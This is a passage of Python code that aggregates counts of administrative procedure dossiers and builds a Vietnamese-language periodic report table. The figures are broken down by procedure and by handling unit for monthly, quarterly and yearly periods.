        """Procedure rows and unit rows in two sections (I, II), each numbered from 1, then the total."""
        rows: list[tuple[Cell, ...]] = [_section("I", "Theo thủ tục hành chính")]
        procedures = sorted(
            self.by_procedure.items(), key=lambda kv: (self.procedure_names.get(kv[0], kv[0]), kv[0])
        )
        for number, (key, c) in enumerate(procedures, start=1):
            rows.append((number, self.procedure_names.get(key, key), *_figures(c)))
        rows.append(_section("II", "Theo cơ quan, đơn vị giải quyết"))
        for number, (unit, c) in enumerate(sorted(self.by_unit.items()), start=1):
            rows.append((number, unit, *_figures(c)))
        rows.append((None, "Tổng cộng", *_figures(self.total)))
        subtitle = (f"{self.label}: từ ngày {self.first:%d/%m/%Y} đến ngày {self.last:%d/%m/%Y}",)
        return Table(
            "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH", PERIODIC_HEADERS, tuple(rows), subtitle
        )


def _section(number: str, name: str) -> tuple[Cell, ...]:
    return (number, name.upper(), *([None] * (len(PERIODIC_HEADERS) - 2)))


def _figures(c: Counts) -> tuple[Cell, ...]:
    return (
        c.carried_over,
        c.received_online,
        c.received_in_person,
        c.received_post,
        c.total,
        c.finished_early,
        c.finished_on_time,
        c.finished_late,
        c.in_progress_on_time,
        c.in_progress_overdue,
        c.waiting_supplement,
        c.waiting_payment,
        c.supplemented_dossiers,
        c.supplement_requests,
        c.refused,
        c.stopped,
        c.withdrawn,
        c.repeat_supplements,
        c.apologies_late,
        c.apologies_mistake,
    )


def periodic_report(
    facts: Iterable[DossierFacts], first: date, last: date, label: str = ""
) -> PeriodicReport:
    """Received (by channel), finished early/on time/late, in progress, overdue, supplementations,
    refusals, stops and withdrawals in [first, last], per procedure and per unit."""
    start, end = local_bounds(first, last)
    by_procedure: dict[str, Counts] = {}
    by_unit: dict[str, Counts] = {}
    names: dict[str, str] = {}
    total = Counts()
    for f in facts:
        c = count_dossier(f, start, end)
        if c == Counts():
            continue
        names[f.procedure_id] = f.procedure_name or f.procedure_id
        by_procedure.setdefault(f.procedure_id, Counts()).add(c)
        by_unit.setdefault(f.unit or DESK_UNIT, Counts()).add(c)
        total.add(c)
    return PeriodicReport(first, last, label, by_procedure, by_unit, total, names)


def periodic_report_for(
    facts: Iterable[DossierFacts], year: int, period: str, rule: CutoffRule | None = None
) -> PeriodicReport:
    """The report of a named period (m1…m12, q1…q4, h1, 9m, year) with the plan's cut-off window."""
    first, last = period_window(year, period, rule)
    return periodic_report(facts, first, last, period_label(year, period))


def period_label(year: int, period: str) -> str:
    """A named period's label in the report (“Quý I năm 2026”)."""
    return f"{PERIOD_LABELS.get(period, period)} năm {year}"
